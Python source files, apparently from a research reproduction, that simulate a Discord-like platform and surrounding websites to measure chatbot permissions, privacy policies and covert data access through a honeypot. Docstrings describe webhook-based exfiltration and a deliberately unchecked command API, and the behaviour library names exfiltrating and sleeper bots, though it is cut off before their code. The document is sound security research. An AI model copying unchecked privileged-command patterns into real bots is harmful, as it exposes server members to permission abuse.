        if kind is RepoKind.NO_PUBLIC_REPOSITORIES:
            message = f"{owner} has no public repositories."
        elif kind is RepoKind.NO_REPOSITORIES:
            message = f"{owner} doesn't have any repositories yet."
        elif kind is RepoKind.USER_PROFILE:
            message = f"{owner} — just a profile."
        else:
            return Response.html(_not_found_page(), status=404)
        body = (
            f"<html><head><title>{owner}</title></head><body>"
            f'<h1 class="profile-name">{owner}</h1><p class="empty-profile">{message}</p></body></html>'
        )
        return Response.html(body)


def _not_found_page() -> str:
    return "<html><head><title>Page not found</title></head><body><h1>404</h1></body></html>"
