"""``reddit.sim`` — the OSN the honeypot feed is sourced from.

The paper's honeypot "leverages publicly available messages from social
networks (OSN) like Reddit" because IM chatter is "shorter and less formal
than email".  This host serves subreddit pages with posts and comment
threads (generated from the conversational corpus), and the feed pipeline
scrapes them — closing the same loop the paper's implementation used.
"""

from __future__ import annotations

import random

from repro.ecosystem.corpus import ConversationGenerator
from repro.web.http import Request, Response
from repro.web.network import VirtualInternet
from repro.web.server import VirtualHost

REDDIT_HOSTNAME = "reddit.sim"

#: Subreddits with publicly scrapeable chatter.
SUBREDDITS = ("gaming", "movies", "music", "pcbuilds", "casualconversation")

_POST_TITLES = (
    "what's everyone playing this weekend?",
    "unpopular opinion thread",
    "just finished the new season, thoughts?",
    "rate my setup",
    "daily discussion",
    "this community is the best, change my mind",
)


class RedditSite:
    """Deterministic subreddit pages with comment threads."""

    def __init__(self, seed: int = 1337, posts_per_subreddit: int = 4, comments_per_post: int = 12) -> None:
        self._threads: dict[str, list[tuple[str, list[str]]]] = {}
        for subreddit in SUBREDDITS:
            rng = random.Random((seed, subreddit).__hash__() & 0x7FFFFFFF)
            generator = ConversationGenerator(rng)
            posts: list[tuple[str, list[str]]] = []
            for _ in range(posts_per_subreddit):
                title = rng.choice(_POST_TITLES)
                comments = [generator.next_message().text for _ in range(comments_per_post)]
                posts.append((title, comments))
            self._threads[subreddit] = posts
        self.host = VirtualHost(REDDIT_HOSTNAME)
        self.host.add_route("/", self._front_page)
        self.host.add_route("/r/{subreddit}", self._subreddit_page)

    def register(self, internet: VirtualInternet) -> None:
        internet.register(REDDIT_HOSTNAME, self.host)

    # -- pages -------------------------------------------------------------

    def _front_page(self, request: Request) -> Response:
        links = "".join(
            f'<li><a class="sub-link" href="/r/{subreddit}">r/{subreddit}</a></li>'
            for subreddit in SUBREDDITS
        )
        return Response.html(
            f"<html><head><title>reddit.sim</title></head><body><ul id='subs'>{links}</ul></body></html>"
        )

    def _subreddit_page(self, request: Request, subreddit: str) -> Response:
        threads = self._threads.get(subreddit)
        if threads is None:
            return Response.html("<html><head><title>404</title></head><body>no such sub</body></html>", status=404)
        blocks = []
        for index, (title, comments) in enumerate(threads):
            rendered_comments = "".join(
                f'<div class="comment"><p class="comment-body">{comment}</p></div>' for comment in comments
            )
            blocks.append(
                f'<div class="post" data-post-id="{index}"><h2 class="post-title">{title}</h2>'
                f'<div class="comments">{rendered_comments}</div></div>'
            )
        return Response.html(
            f"<html><head><title>r/{subreddit}</title></head><body>{''.join(blocks)}</body></html>"
        )

    def comment_count(self, subreddit: str) -> int:
        return sum(len(comments) for _, comments in self._threads.get(subreddit, []))
