"""``discord.sim`` — the platform's web frontend.

Serves the OAuth consent page for each bot in the ecosystem.  This is where
the scraper reads requested permissions from, and where the three invalid
classes from the paper manifest:

- **malformed** invite links fail OAuth parameter validation (400);
- **removed** bots return "Unknown Application" (404);
- **slow-redirect** bots bounce through a throttled CDN host whose chain
  exceeds the scraper's page-load timeout.
"""

from __future__ import annotations

from repro.discordsim.oauth import ConsentScreen, InviteLinkError, parse_invite_url
from repro.ecosystem.generator import BotProfile, Ecosystem, InviteStatus
from repro.web.http import Request, Response
from repro.web.network import HostConditions, VirtualInternet
from repro.web.server import VirtualHost

DISCORD_HOSTNAME = "discord.sim"
SLOW_CDN_HOSTNAME = "slowcdn.discord.sim"

#: Latency of one hop through the throttled CDN.  Three hops at 6s each
#: blow through the scraper's default 10s page-load budget.
SLOW_HOP_LATENCY = 6.0
SLOW_HOPS = 3


class DiscordWebsite:
    """Builds and registers the ``discord.sim`` hosts for an ecosystem."""

    def __init__(self, ecosystem: Ecosystem) -> None:
        self.ecosystem = ecosystem
        # Materialized populations get a dict; streaming ones decode the
        # client id back to a rank (ids are rank + a constant base), so the
        # consent pages never force the population resident.
        self._by_client_id: dict[int, BotProfile] | None = (
            None
            if getattr(ecosystem, "stream", None) is not None
            else {bot.client_id: bot for bot in ecosystem.bots}
        )
        self.host = VirtualHost(DISCORD_HOSTNAME)
        self.slow_host = VirtualHost(SLOW_CDN_HOSTNAME)
        self.host.add_route("/oauth2/authorize", self._authorize)
        self.slow_host.add_route("/hop/{n}", self._slow_hop)
        self.consent_pages_served = 0

    def register(self, internet: VirtualInternet) -> None:
        internet.register(DISCORD_HOSTNAME, self.host)
        internet.register(
            SLOW_CDN_HOSTNAME,
            self.slow_host,
            HostConditions(base_latency=SLOW_HOP_LATENCY),
        )

    # -- routes ------------------------------------------------------------

    def _authorize(self, request: Request) -> Response:
        params = request.url.query_params()
        raw_client_id = params.get("client_id", "")
        try:
            client_id = int(raw_client_id)
        except ValueError:
            return Response.html(_error_page("Invalid OAuth2 authorize request"), status=400)
        if self._by_client_id is not None:
            bot = self._by_client_id.get(client_id)
        else:
            bot = self.ecosystem.bot_by_client_id(client_id)
        if bot is None or bot.invite_status is InviteStatus.REMOVED:
            return Response.html(_error_page("Unknown Application"), status=404)
        if bot.invite_status is InviteStatus.SLOW_REDIRECT:
            # First hop of a throttled redirect chain.
            return Response.redirect(f"https://{SLOW_CDN_HOSTNAME}/hop/1?client_id={client_id}")
        if bot.invite_status is InviteStatus.MALFORMED:
            return Response.html(_error_page("Invalid OAuth2 authorize request"), status=400)
        try:
            invite = parse_invite_url(str(request.url))
        except InviteLinkError:
            return Response.html(_error_page("Invalid OAuth2 authorize request"), status=400)
        screen = ConsentScreen(bot_name=bot.name, invite=invite, guild_names=["My Server"])
        self.consent_pages_served += 1
        return Response.html(screen.render_html())

    def _slow_hop(self, request: Request, n: str) -> Response:
        hop = int(n)
        client_id = request.param("client_id", "0")
        if hop < SLOW_HOPS:
            return Response.redirect(f"https://{SLOW_CDN_HOSTNAME}/hop/{hop + 1}?client_id={client_id}")
        return Response.redirect(f"https://{DISCORD_HOSTNAME}/oauth2/authorize?client_id={client_id}&permissions=0&scope=bot")


def _error_page(message: str) -> str:
    return (
        "<html><head><title>Discord</title></head><body>"
        f'<div class="error"><h1 id="error-message">{message}</h1></div>'
        "</body></html>"
    )
