"""Virtual web properties the measurement pipeline visits.

- :mod:`repro.sites.discordweb` — ``discord.sim``: OAuth consent pages
  (where invite-link permissions are read), including the broken/slow
  invite behaviours behind the paper's "26% invalid permissions".
- :mod:`repro.sites.github` — ``github.sim``: repository pages, language
  stats, raw file access, user profiles.
- :mod:`repro.sites.botwebsites` — per-bot developer websites hosting
  privacy policies behind varying page structures.
"""

from repro.sites.discordweb import DiscordWebsite, SLOW_CDN_HOSTNAME
from repro.sites.github import GitHubSite
from repro.sites.botwebsites import BotWebsiteBuilder, WEBSITE_VARIANTS

__all__ = [
    "BotWebsiteBuilder",
    "DiscordWebsite",
    "GitHubSite",
    "SLOW_CDN_HOSTNAME",
    "WEBSITE_VARIANTS",
]
