"""Per-bot developer websites hosting privacy policies.

The paper notes that bots "tend to not have any visible privacy policies on
top.gg", so the scraper must visit each bot's website and hunt for the
policy with element locators.  To exercise that, sites come in several
structural variants: the policy link may sit in the navigation bar, in the
footer, or behind a "legal" page; anchor text and paths vary; and a small
class of sites (3 of 676 in the paper) advertise a policy link that 404s.
"""

from __future__ import annotations

from repro.ecosystem.generator import BotProfile, Ecosystem
from repro.ecosystem.stream import rank_suffix_of
from repro.web.http import Request, Response
from repro.web.network import VirtualInternet
from repro.web.server import VirtualHost

#: Structural variants a bot website can use for its policy link.
WEBSITE_VARIANTS = ("nav", "footer", "legal")

#: Domain under which every generated bot website lives.
BOTSITE_DOMAIN = ".botsite.sim"


def variant_for(bot: BotProfile) -> str:
    return WEBSITE_VARIANTS[bot.client_id % len(WEBSITE_VARIANTS)]


class BotWebsiteBuilder:
    """Builds one VirtualHost per bot website.

    For a materialized :class:`Ecosystem` every site is built and registered
    up front.  For a streaming ecosystem no site exists until a request
    arrives: ``register`` installs a resolver on the internet that decodes
    ``<name><rank>.botsite.sim`` back to the owning bot's rank and builds
    that one site on demand (bounded by the internet's dynamic-host LRU).
    """

    def __init__(self, ecosystem: Ecosystem) -> None:
        self.ecosystem = ecosystem
        self.hosts: dict[str, VirtualHost] = {}
        self._streaming = getattr(ecosystem, "stream", None) is not None
        if not self._streaming:
            for bot in ecosystem.websites():
                assert bot.website_host is not None
                self.hosts[bot.website_host] = _build_site(bot)

    def register(self, internet: VirtualInternet) -> None:
        if self._streaming:
            internet.register_resolver(self.resolve)
            return
        for hostname, host in self.hosts.items():
            internet.register(hostname, host)

    def resolve(self, hostname: str) -> VirtualHost | None:
        """``<botname-lowercase>.botsite.sim`` -> that bot's site, else None."""
        if not hostname.endswith(BOTSITE_DOMAIN):
            return None
        rank = rank_suffix_of(hostname[: -len(BOTSITE_DOMAIN)])
        if rank is None or not 0 <= rank < len(self.ecosystem.bots):
            return None
        bot = self.ecosystem.bots[rank]
        if bot.website_host != hostname:
            return None
        return _build_site(bot)


def _build_site(bot: BotProfile) -> VirtualHost:
    host = VirtualHost(bot.website_host or "site")
    variant = variant_for(bot)
    policy_path = {"nav": "/privacy", "footer": "/privacy-policy", "legal": "/legal/privacy"}[variant]
    has_policy_link = bot.policy.present
    policy_resolves = bot.policy.present and bot.policy.link_valid

    def homepage(request: Request) -> Response:
        link_html = ""
        if has_policy_link:
            if variant == "nav":
                link_html = f'<nav><a class="nav-link" href="{policy_path}">Privacy Policy</a></nav>'
            elif variant == "footer":
                link_html = f'<footer><a class="footer-link" href="{policy_path}">privacy</a></footer>'
            else:
                link_html = '<nav><a class="nav-link" href="/legal">Legal</a></nav>'
        body = (
            f"<html><head><title>{bot.name}</title></head><body>"
            f'<h1 class="bot-title">{bot.name}</h1>'
            f'<p class="pitch">{bot.description}</p>'
            f'<a id="invite" href="{bot.invite_url}">Add to your server</a>'
            f"{link_html}"
            "</body></html>"
        )
        return Response.html(body)

    def legal(request: Request) -> Response:
        body = (
            f"<html><head><title>{bot.name} legal</title></head><body>"
            f'<ul><li><a class="legal-link" href="{policy_path}">Privacy Policy</a></li>'
            '<li><a class="legal-link" href="/legal/terms">Terms of Service</a></li></ul>'
            "</body></html>"
        )
        return Response.html(body)

    def terms(request: Request) -> Response:
        return Response.html(
            f"<html><head><title>Terms</title></head><body><h1>{bot.name} Terms</h1>"
            "<p>Use at your own risk.</p></body></html>"
        )

    def privacy(request: Request) -> Response:
        if not policy_resolves:
            return Response.html("<html><head><title>404</title></head><body><h1>Not found</h1></body></html>", status=404)
        paragraphs = "".join(f"<p>{line}</p>" for line in bot.policy_text.splitlines() if line.strip())
        body = (
            f"<html><head><title>{bot.name} privacy policy</title></head><body>"
            f'<div id="policy">{paragraphs}</div></body></html>'
        )
        return Response.html(body)

    host.add_route("/", homepage)
    if variant == "legal":
        host.add_route("/legal", legal)
        host.add_route("/legal/terms", terms)
    if has_policy_link:
        host.add_route(policy_path, privacy)
    return host
