"""A Discord-like messaging platform simulator.

Reproduces the parts of Discord the paper's measurement depends on:

- the guild / channel / role model with the full permission bitfield
  (:mod:`repro.discordsim.permissions`);
- the permission hierarchy rules i–v from Section 4.1
  (:mod:`repro.discordsim.guild`);
- the OAuth2 install flow with its consent screen — Figure 2 —
  (:mod:`repro.discordsim.oauth`);
- gateway events and a ``discord.py``-style bot runtime
  (:mod:`repro.discordsim.gateway`, :mod:`repro.discordsim.bot`);
- a REST-style API that enforces the *bot's* permissions but — crucially,
  and unlike Slack or MS Teams — performs **no user-permission checks** on
  command invocations, leaving those to third-party developers
  (:mod:`repro.discordsim.api`).
"""

from repro.discordsim.permissions import (
    ALL_PERMISSIONS,
    DISPLAY_NAMES,
    Permission,
    PermissionOverwrite,
    Permissions,
)
from repro.discordsim.snowflake import SnowflakeGenerator
from repro.discordsim.models import Attachment, ChannelType, Member, Message, Role, User
from repro.discordsim.guild import Guild, HierarchyError, PermissionDenied
from repro.discordsim.gateway import Event, EventBus, EventType
from repro.discordsim.oauth import InviteLink, OAuthScope, build_invite_url, parse_invite_url
from repro.discordsim.platform import DiscordPlatform, InstallError, VerificationRequired
from repro.discordsim.api import BotApiClient, ApiError
from repro.discordsim.bot import BotRuntime, CommandContext, requires_user_permissions
from repro.discordsim.webhooks import Webhook, WebhookRegistry
from repro.discordsim.cdn import DiscordCDN
from repro.discordsim.slash import Interaction, SlashCommand, SlashCommandRegistry
from repro.discordsim.voice import VoiceManager

__all__ = [
    "ALL_PERMISSIONS",
    "ApiError",
    "Attachment",
    "BotApiClient",
    "BotRuntime",
    "ChannelType",
    "DiscordCDN",
    "Interaction",
    "SlashCommand",
    "SlashCommandRegistry",
    "VoiceManager",
    "Webhook",
    "WebhookRegistry",
    "CommandContext",
    "DISPLAY_NAMES",
    "DiscordPlatform",
    "Event",
    "EventBus",
    "EventType",
    "Guild",
    "HierarchyError",
    "InstallError",
    "InviteLink",
    "Member",
    "Message",
    "OAuthScope",
    "Permission",
    "PermissionDenied",
    "PermissionOverwrite",
    "Permissions",
    "Role",
    "SnowflakeGenerator",
    "User",
    "VerificationRequired",
    "build_invite_url",
    "parse_invite_url",
]
