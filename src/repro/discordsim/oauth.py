"""OAuth2 install flow: scopes, invite URLs, and the consent screen (Fig 2).

Bots are installed through an OAuth authorisation URL of the form::

    https://discord.sim/oauth2/authorize?client_id=<id>&permissions=<bits>&scope=bot

The consent screen enumerates exactly the permissions encoded in the URL's
bitfield — this page is where the paper's scraper reads each bot's requested
permissions from ("74% of the chatbots requested valid permissions on the
installation page").
"""

from __future__ import annotations

from dataclasses import dataclass, field
from enum import Enum

from repro.web.http import Url
from repro.discordsim.permissions import Permissions


class OAuthScope(Enum):
    """OAuth scopes.  Some are whitelisted (staff approval) or test-only."""

    BOT = "bot"
    IDENTIFY = "identify"
    EMAIL = "email"
    GUILDS = "guilds"
    GUILDS_JOIN = "guilds.join"
    APPLICATIONS_COMMANDS = "applications.commands"
    MESSAGES_READ = "messages.read"
    RPC = "rpc"
    RPC_NOTIFICATIONS_READ = "rpc.notifications.read"
    RELATIONSHIPS_READ = "relationships.read"

    @property
    def requires_whitelist(self) -> bool:
        return self in _WHITELISTED_SCOPES

    @property
    def testing_only(self) -> bool:
        return self in _TESTING_SCOPES


_WHITELISTED_SCOPES = frozenset({OAuthScope.MESSAGES_READ, OAuthScope.RELATIONSHIPS_READ})
_TESTING_SCOPES = frozenset({OAuthScope.RPC, OAuthScope.RPC_NOTIFICATIONS_READ})


class InviteLinkError(ValueError):
    """The URL is not a well-formed OAuth authorisation link."""


@dataclass(frozen=True)
class InviteLink:
    """A parsed bot-invite URL."""

    client_id: int
    permissions: Permissions
    scopes: tuple[OAuthScope, ...] = (OAuthScope.BOT,)
    host: str = "discord.sim"

    def url(self) -> str:
        scope_value = "%20".join(scope.value for scope in self.scopes)
        return (
            f"https://{self.host}/oauth2/authorize"
            f"?client_id={self.client_id}&permissions={self.permissions.value}&scope={scope_value}"
        )


def build_invite_url(
    client_id: int,
    permissions: Permissions,
    scopes: tuple[OAuthScope, ...] = (OAuthScope.BOT,),
    host: str = "discord.sim",
) -> str:
    return InviteLink(client_id=client_id, permissions=permissions, scopes=scopes, host=host).url()


def parse_invite_url(raw: str) -> InviteLink:
    """Parse an OAuth authorise URL; raises :class:`InviteLinkError` if malformed."""
    url = Url.parse(raw)
    if "/oauth2/authorize" not in url.path:
        raise InviteLinkError(f"not an oauth authorise path: {raw!r}")
    params = url.query_params()
    try:
        client_id = int(params["client_id"])
    except (KeyError, ValueError):
        raise InviteLinkError(f"missing or malformed client_id in {raw!r}") from None
    try:
        permissions = Permissions(int(params.get("permissions", "0")))
    except ValueError:
        raise InviteLinkError(f"malformed permissions bitfield in {raw!r}") from None
    raw_scopes = params.get("scope", "bot").replace("%20", " ").split()
    scopes: list[OAuthScope] = []
    for name in raw_scopes:
        try:
            scopes.append(OAuthScope(name))
        except ValueError:
            raise InviteLinkError(f"unknown scope {name!r} in {raw!r}") from None
    if OAuthScope.BOT not in scopes:
        raise InviteLinkError("the bot scope is required for all chatbots")
    return InviteLink(client_id=client_id, permissions=permissions, scopes=tuple(scopes), host=url.host)


@dataclass
class ConsentScreen:
    """The authorisation page shown to the installing user (Figure 2)."""

    bot_name: str
    invite: InviteLink
    captcha_challenge_id: str | None = None
    captcha_prompt: str | None = None
    guild_names: list[str] = field(default_factory=list)

    def render_html(self) -> str:
        """Render the page the scraper parses permissions from."""
        rows = "".join(
            f'<li class="permission-item">{name}</li>' for name in self.invite.permissions.display_names()
        )
        scopes = ", ".join(scope.value for scope in self.invite.scopes)
        options = "".join(f"<option>{name}</option>" for name in self.guild_names)
        captcha = ""
        if self.captcha_challenge_id:
            captcha = (
                f'<div id="captcha-challenge" data-challenge-id="{self.captcha_challenge_id}">'
                f'<p class="prompt">{self.captcha_prompt}</p></div>'
            )
        return (
            "<html><head><title>Authorize application</title></head><body>"
            f'<div class="consent"><h1 id="bot-name">{self.bot_name}</h1>'
            "<p>wants to access your account</p>"
            f'<p class="scopes">Scopes: {scopes}</p>'
            f'<label>Add to server:</label><select id="guild-select">{options}</select>'
            "<h2>This will allow the developer to:</h2>"
            f'<ul id="permission-list">{rows}</ul>'
            f"{captcha}"
            '<button id="authorize">Authorize</button>'
            '<button id="cancel">Cancel</button>'
            "</div></body></html>"
        )
