"""A ``discord.py``-style bot runtime.

Bots register prefix commands (``!kick``, ``!info``, …); the runtime
subscribes to the gateway and dispatches matching messages.  Developers who
follow best practice guard privileged commands with
:func:`requires_user_permissions` — the check the paper found missing from
97.35% of Python bot repositories.  Nothing in the platform forces them to.
"""

from __future__ import annotations

from dataclasses import dataclass
from typing import Callable

from repro.discordsim.api import BotApiClient
from repro.discordsim.gateway import Event
from repro.discordsim.guild import GuildError
from repro.discordsim.models import Message
from repro.discordsim.permissions import Permission
from repro.discordsim.platform import DiscordPlatform
from repro.web.network import VirtualInternet


class CheckFailure(GuildError):
    """A user-permission check rejected the command invocation."""


@dataclass
class CommandContext:
    """Everything a command handler gets about the invocation."""

    bot: "BotRuntime"
    api: BotApiClient
    message: Message
    args: list[str]

    @property
    def guild_id(self) -> int:
        return self.message.guild_id

    @property
    def channel_id(self) -> int:
        return self.message.channel_id

    @property
    def author_id(self) -> int:
        return self.message.author_id

    def reply(self, content: str) -> Message:
        return self.api.send_message(self.guild_id, self.channel_id, content)


CommandHandler = Callable[[CommandContext], None]
MessageListener = Callable[["BotRuntime", Message], None]


def requires_user_permissions(*permissions: Permission) -> Callable[[CommandHandler], CommandHandler]:
    """Decorator: verify the *invoking user* holds ``permissions``.

    This is the runtime analogue of the source-level APIs in the paper's
    Table 3 (``.hasPermission(``, ``member.roles.cache``, ``.has(``,
    ``userPermissions``).  A bot whose privileged commands lack this guard is
    vulnerable to permission re-delegation.
    """

    def decorate(handler: CommandHandler) -> CommandHandler:
        def guarded(context: CommandContext) -> None:
            held = context.api.member_permissions(context.guild_id, context.author_id, context.channel_id)
            for permission in permissions:
                if not held.has(permission):
                    raise CheckFailure(f"user {context.author_id} lacks {permission.name}")
            handler(context)

        guarded.__name__ = getattr(handler, "__name__", "command")
        guarded.performs_permission_check = True  # type: ignore[attr-defined]
        return guarded

    return decorate


@dataclass
class CommandSpec:
    name: str
    handler: CommandHandler
    description: str = ""

    @property
    def checks_user_permissions(self) -> bool:
        return bool(getattr(self.handler, "performs_permission_check", False))


class BotRuntime:
    """Runs one bot account: command dispatch plus raw message listeners."""

    def __init__(
        self,
        platform: DiscordPlatform,
        bot_user_id: int,
        prefix: str = "!",
        internet: VirtualInternet | None = None,
    ) -> None:
        self.platform = platform
        self.bot_user_id = bot_user_id
        self.prefix = prefix
        self.api = BotApiClient(platform, bot_user_id, internet=internet)
        self.commands: dict[str, CommandSpec] = {}
        self.listeners: list[MessageListener] = []
        self.tick_handlers: list[Callable[["BotRuntime"], None]] = []
        self.errors: list[tuple[str, Exception]] = []
        self.invocations = 0
        self._started = False
        self._unsubscribe: Callable[[], None] | None = None

    # -- registration --------------------------------------------------------

    def command(self, name: str, description: str = "") -> Callable[[CommandHandler], CommandHandler]:
        def register(handler: CommandHandler) -> CommandHandler:
            self.commands[name] = CommandSpec(name=name, handler=handler, description=description)
            return handler

        return register

    def add_listener(self, listener: MessageListener) -> None:
        """Raw MESSAGE_CREATE listener (what invasive bots use)."""
        self.listeners.append(listener)

    def add_tick_handler(self, handler: Callable[["BotRuntime"], None]) -> None:
        """Background work driven by the passage of time, not by messages.

        Real bots run their own schedulers on the developer's server; the
        simulator surfaces that as explicit ticks (the honeypot experiment
        ticks every runtime once per observation slice).
        """
        self.tick_handlers.append(handler)

    def tick(self) -> None:
        """Run background handlers once (errors recorded, not raised)."""
        for handler in list(self.tick_handlers):
            try:
                handler(self)
            except GuildError as error:
                self.errors.append(("tick", error))

    # -- lifecycle ---------------------------------------------------------------

    def start(self) -> None:
        """Connect to the gateway (idempotent)."""
        if self._started:
            return
        self._unsubscribe = self.platform.subscribe_bot(self.bot_user_id, self._on_event)
        self._started = True

    def stop(self) -> None:
        """Disconnect from the gateway (idempotent).

        Used by the supervision layer after a quarantine: a runtime whose
        handler crashed or flooded must never receive another event.
        """
        if not self._started:
            return
        if self._unsubscribe is not None:
            self._unsubscribe()
            self._unsubscribe = None
        self._started = False

    def _on_event(self, event: Event) -> None:
        message: Message = event.payload["message"]
        for listener in self.listeners:
            try:
                listener(self, message)
            except GuildError as error:
                self.errors.append(("listener", error))
        if message.content.startswith(self.prefix):
            self._dispatch_command(message)

    def _dispatch_command(self, message: Message) -> None:
        body = message.content[len(self.prefix) :]
        parts = body.split()
        if not parts:
            return
        name, args = parts[0].lower(), parts[1:]
        spec = self.commands.get(name)
        if spec is None:
            return
        self.invocations += 1
        context = CommandContext(bot=self, api=self.api, message=message, args=args)
        # The API carries the invoking user for the duration of the command:
        # platforms with a runtime enforcer key their checks on this.
        self.api.acting_for = message.author_id
        try:
            spec.handler(context)
        except CheckFailure as error:
            self.errors.append((name, error))
            try:
                context.reply(f"You do not have permission to use {self.prefix}{name}.")
            except GuildError:
                pass
        except GuildError as error:
            self.errors.append((name, error))
        finally:
            self.api.acting_for = None
