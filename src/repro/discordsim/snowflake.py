"""Snowflake ID generation.

Discord identifies everything (users, guilds, channels, messages) with
64-bit snowflakes: 42 bits of millisecond timestamp since the Discord epoch,
10 bits of worker/process id, 12 bits of per-millisecond sequence.  The
generator runs on the virtual clock so IDs are deterministic and sortable by
creation time — a property some analysis code relies on.
"""

from __future__ import annotations

from repro.web.network import VirtualClock

#: Discord epoch: first second of 2015, in milliseconds.
DISCORD_EPOCH_MS = 1_420_070_400_000


class SnowflakeGenerator:
    """Generates unique, time-ordered snowflake IDs."""

    def __init__(self, clock: VirtualClock, worker_id: int = 1) -> None:
        if not 0 <= worker_id < 1024:
            raise ValueError("worker_id must fit in 10 bits")
        self.clock = clock
        self.worker_id = worker_id
        self._last_ms = -1
        self._sequence = 0

    def next_id(self) -> int:
        timestamp_ms = int(self.clock.now() * 1000)
        if timestamp_ms == self._last_ms:
            self._sequence += 1
            if self._sequence >= 4096:
                # Sequence exhausted within this millisecond: nudge the clock.
                self.clock.advance(0.001)
                timestamp_ms = int(self.clock.now() * 1000)
                self._sequence = 0
        else:
            self._sequence = 0
        self._last_ms = timestamp_ms
        return (timestamp_ms << 22) | (self.worker_id << 12) | self._sequence


def snowflake_timestamp_ms(snowflake: int) -> int:
    """Extract the (virtual) millisecond timestamp from a snowflake."""
    return snowflake >> 22


def snowflake_worker(snowflake: int) -> int:
    return (snowflake >> 12) & 0x3FF


def snowflake_sequence(snowflake: int) -> int:
    return snowflake & 0xFFF
