"""Webhooks: token-authenticated posting that bypasses user identity.

Webhooks are part of Discord's attack surface the paper's risk weighting
reflects (MANAGE_WEBHOOKS carries a high weight): creating one requires the
permission, but *executing* one needs only the URL token — no account, no
permission check, no attribution beyond the webhook's own name.  Leaked
webhook URLs are how the "Spidey Bot" class of malware exfiltrated stolen
credentials.
"""

from __future__ import annotations

import hashlib
from dataclasses import dataclass

from repro.discordsim.guild import Guild, PermissionDenied, UnknownEntityError
from repro.discordsim.models import Message
from repro.discordsim.permissions import Permission
from repro.discordsim.platform import DiscordPlatform


class WebhookError(Exception):
    """Webhook lookup or execution failed."""


@dataclass(frozen=True)
class Webhook:
    """One channel webhook.  The (id, token) pair is the whole credential."""

    webhook_id: int
    token: str
    guild_id: int
    channel_id: int
    name: str
    created_by: int

    @property
    def url(self) -> str:
        return f"https://discord.sim/api/webhooks/{self.webhook_id}/{self.token}"


class WebhookRegistry:
    """Creates and executes webhooks against a platform."""

    def __init__(self, platform: DiscordPlatform, secret: str = "webhook-secret") -> None:
        self.platform = platform
        self._secret = secret
        self._webhooks: dict[int, Webhook] = {}
        self.executions = 0
        self.rejected_executions = 0

    # -- lifecycle -----------------------------------------------------------

    def create(self, actor_id: int, guild_id: int, channel_id: int, name: str) -> Webhook:
        """Create a webhook (requires MANAGE_WEBHOOKS in the channel)."""
        guild = self._guild(guild_id)
        guild.channel(channel_id)  # raises for unknown channels
        if actor_id != guild.owner_id:
            held = guild.permissions_in(actor_id, channel_id)
            if not held.has(Permission.MANAGE_WEBHOOKS):
                raise PermissionDenied("creating a webhook requires MANAGE_WEBHOOKS")
        webhook_id = self.platform.snowflakes.next_id()
        token = hashlib.sha256(f"{self._secret}|{webhook_id}".encode()).hexdigest()[:32]
        webhook = Webhook(
            webhook_id=webhook_id,
            token=token,
            guild_id=guild_id,
            channel_id=channel_id,
            name=name,
            created_by=actor_id,
        )
        self._webhooks[webhook_id] = webhook
        return webhook

    def delete(self, actor_id: int, webhook_id: int) -> None:
        webhook = self._webhooks.get(webhook_id)
        if webhook is None:
            raise WebhookError(f"no webhook {webhook_id}")
        guild = self._guild(webhook.guild_id)
        if actor_id != guild.owner_id:
            held = guild.permissions_in(actor_id, webhook.channel_id)
            if not held.has(Permission.MANAGE_WEBHOOKS):
                raise PermissionDenied("deleting a webhook requires MANAGE_WEBHOOKS")
        del self._webhooks[webhook_id]

    def for_channel(self, channel_id: int) -> list[Webhook]:
        return [webhook for webhook in self._webhooks.values() if webhook.channel_id == channel_id]

    # -- execution --------------------------------------------------------------

    def execute(self, webhook_id: int, token: str, content: str) -> Message:
        """Post via the webhook.  Note what is *not* checked: who calls it.

        Possession of the URL is full authority — the property that makes
        leaked webhook URLs an exfiltration and spam channel.
        """
        webhook = self._webhooks.get(webhook_id)
        if webhook is None or webhook.token != token:
            self.rejected_executions += 1
            raise WebhookError("unknown webhook or bad token")
        guild = self._guild(webhook.guild_id)
        channel = guild.channel(webhook.channel_id)
        message = Message(
            message_id=self.platform.snowflakes.next_id(),
            channel_id=channel.channel_id,
            guild_id=guild.guild_id,
            author_id=webhook.webhook_id,  # attributed to the hook, not a user
            content=content,
            timestamp=self.platform.clock.now(),
            author_is_bot=True,
        )
        channel.messages.append(message)
        self.executions += 1
        from repro.discordsim.gateway import Event, EventType

        self.platform.events.dispatch(
            Event(EventType.MESSAGE_CREATE, guild.guild_id, {"message": message, "channel": channel}, self.platform.clock.now())
        )
        return message

    def execute_url(self, url: str, content: str) -> Message:
        """Execute from a bare webhook URL (the leaked-credential path)."""
        parts = url.rstrip("/").split("/")
        try:
            webhook_id, token = int(parts[-2]), parts[-1]
        except (IndexError, ValueError):
            raise WebhookError(f"not a webhook URL: {url!r}") from None
        return self.execute(webhook_id, token, content)

    def _guild(self, guild_id: int) -> Guild:
        guild = self.platform.guilds.get(guild_id)
        if guild is None:
            raise UnknownEntityError(f"no guild {guild_id}")
        return guild
