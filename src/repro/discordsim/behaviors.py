"""A library of chatbot behaviours.

The honeypot experiment needs a population of bots that *do things*:
benign feature bots, bots whose privileged commands skip user-permission
checks (re-delegation vulnerable), bots whose declared functionality
involves opening URLs (benign trigger pressure), covert exfiltrators, and
the paper's "Melonian" case — an operator who logs in *as the bot*, skims
the channel, opens posted files and leaves a very human message.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field

from repro.discordsim.api import ApiError
from repro.discordsim.bot import BotRuntime, CommandContext, requires_user_permissions
from repro.discordsim.guild import GuildError
from repro.discordsim.models import Message
from repro.discordsim.permissions import Permission
from repro.discordsim.platform import DiscordPlatform
from repro.web.network import VirtualInternet

#: Behaviour kind identifiers used by the ecosystem generator.
BENIGN = "benign"
MODERATION_CHECKED = "moderation_checked"
MODERATION_UNCHECKED = "moderation_unchecked"
LINK_PREVIEW = "link_preview"
EXFILTRATOR = "exfiltrator"
NOSY_OPERATOR = "nosy_operator"
#: Benign until a delay elapses, then sweeps channel history and
#: exfiltrates — the threat-model case of developers silently altering
#: backend code *after* installation (and after any vetting window).
SLEEPER = "sleeper"
#: Adversarial ground truth for the supervision layer: a handler that
#: raises on every message, a handler that floods the gateway with
#: replies, and a handler that stalls the (virtual) clock.
CRASHER = "crasher"
FLOODER = "flooder"
STALLER = "staller"

ALL_BEHAVIORS = (
    BENIGN,
    MODERATION_CHECKED,
    MODERATION_UNCHECKED,
    LINK_PREVIEW,
    EXFILTRATOR,
    NOSY_OPERATOR,
    SLEEPER,
    CRASHER,
    FLOODER,
    STALLER,
)

#: Behaviours whose *unsolicited* access to channel resources would fire
#: canary tokens (ground truth for honeypot evaluation).
INVASIVE_BEHAVIORS = frozenset({EXFILTRATOR, NOSY_OPERATOR, SLEEPER})

